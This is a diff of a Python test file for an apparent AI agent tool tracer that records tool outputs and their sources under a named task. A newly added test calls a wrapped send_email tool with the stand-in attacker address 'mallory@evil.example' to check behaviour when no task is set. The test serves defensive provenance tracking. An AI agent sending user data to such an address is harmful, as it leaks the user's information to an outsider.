@@ -269,7 +269,7 @@ def test_output_text_reads_anything_within_bounds() -> None:
 
 
 def test_a_generator_result_is_not_consumed_and_results_are_returned_unchanged(tmp_path: Any, monkeypatch: pytest.MonkeyPatch) -> None:
-    tracer = local_tracer(tmp_path, monkeypatch)
+    tracer = local_tracer(tmp_path, monkeypatch, task="read my inbox")  # outputs are recorded under a task
     gen = tracer.wrap_tool("read_inbox", lambda: (n for n in range(3)))
     out = gen()
     assert list(out) == [0, 1, 2]
@@ -317,6 +317,16 @@ def test_send_content_opt_in_sends_the_task_text_and_outputs(real: Tenant) -> No
         outputs = [e["metadata"].get("output") for e in events if e["metadata"].get("event_phase") == "post"]
         time.sleep(0.05)
     assert outputs == [INBOX]
+
+
+def test_without_a_task_nothing_is_recorded_or_sent(tmp_path: Any, monkeypatch: pytest.MonkeyPatch) -> None:
+    tracer = local_tracer(tmp_path, monkeypatch)
+    inbox, _contacts, send = mail_tools(tracer)
+    inbox()
+    assert not tracer.session.sources.has_outputs
+    request, _ = tracer._request("send_email", {"to": "mallory@evil.example", "body": "x"})
+    assert "arg_sources" not in request and "task" not in request
+    assert send(to="mallory@evil.example", body="x") == "sent to mallory@evil.example"  # as before: unknown
 
 
 def test_get_current_session_shows_the_task(tmp_path: Any, monkeypatch: pytest.MonkeyPatch) -> None:
